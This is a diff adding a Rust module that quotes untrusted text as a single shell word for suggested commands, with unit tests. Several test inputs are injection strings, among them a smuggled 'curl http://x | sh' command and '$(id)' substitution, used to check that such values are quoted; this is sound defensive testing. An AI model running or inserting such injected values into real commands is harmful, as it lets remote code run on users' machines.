@@ -1,0 +1,46 @@
+//! Words of suggested shell commands.
+
+/// Longer texts are left out of a suggested command.
+const LONGEST_WORD: usize = 64;
+
+/// Returns a text of a service as one word of a shell command, quoted if it contains anything but letters, digits and a few
+/// other characters. Returns `None` if it cannot be printed as one: it is empty, long, or has control characters.
+pub(crate) fn shell_word(text: &str) -> Option<String> {
+    if text.is_empty() || text.chars().count() > LONGEST_WORD || text.chars().any(|c| c.is_control() || is_invisible(c))
+    {
+        return None;
+    }
+    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-.".contains(&byte);
+    if text.bytes().all(is_plain) && !text.starts_with('-') {
+        return Some(text.to_owned());
+    }
+    Some(format!("'{}'", text.replace('\'', r"'\''")))
+}
+
+/// True for characters that change how the text around them is shown, or that are not shown.
+fn is_invisible(character: char) -> bool {
+    matches!(character, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn odd_texts_are_quoted_or_left_out() {
+        for (text, word) in [
+            ("91178731657918899855270189630549", Some("91178731657918899855270189630549")),
+            ("1; curl http://x | sh", Some("'1; curl http://x | sh'")),
+            ("$(id)", Some("'$(id)'")),
+            ("it's", Some(r"'it'\''s'")),
+            ("-rf", Some("'-rf'")),
+            ("号", Some("'号'")),
+            ("", None),
+            ("a\nb", None),
+            ("a\u{202e}b", None),
+        ] {
+            assert_eq!(shell_word(text).as_deref(), word, "{text}");
+        }
+        assert_eq!(shell_word(&"1".repeat(65)), None);
+    }
+}
